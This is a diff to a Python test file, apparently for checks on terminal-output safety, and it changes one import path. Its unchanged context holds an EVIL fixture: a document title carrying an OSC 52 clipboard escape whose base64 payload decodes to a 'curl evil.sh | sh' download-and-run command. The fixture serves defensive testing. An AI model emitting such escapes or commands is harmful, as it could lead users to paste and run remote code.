@@ -6,7 +6,7 @@ import json
 
 import pytest
 
-from faults_helpers import assert_terminal_safe, cli, text
+from tests.faults.faults_helpers import assert_terminal_safe, cli, text
 
 EVIL = (
     "---\ntitle: \"Clipboard \\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\a thief\"\n---\n"
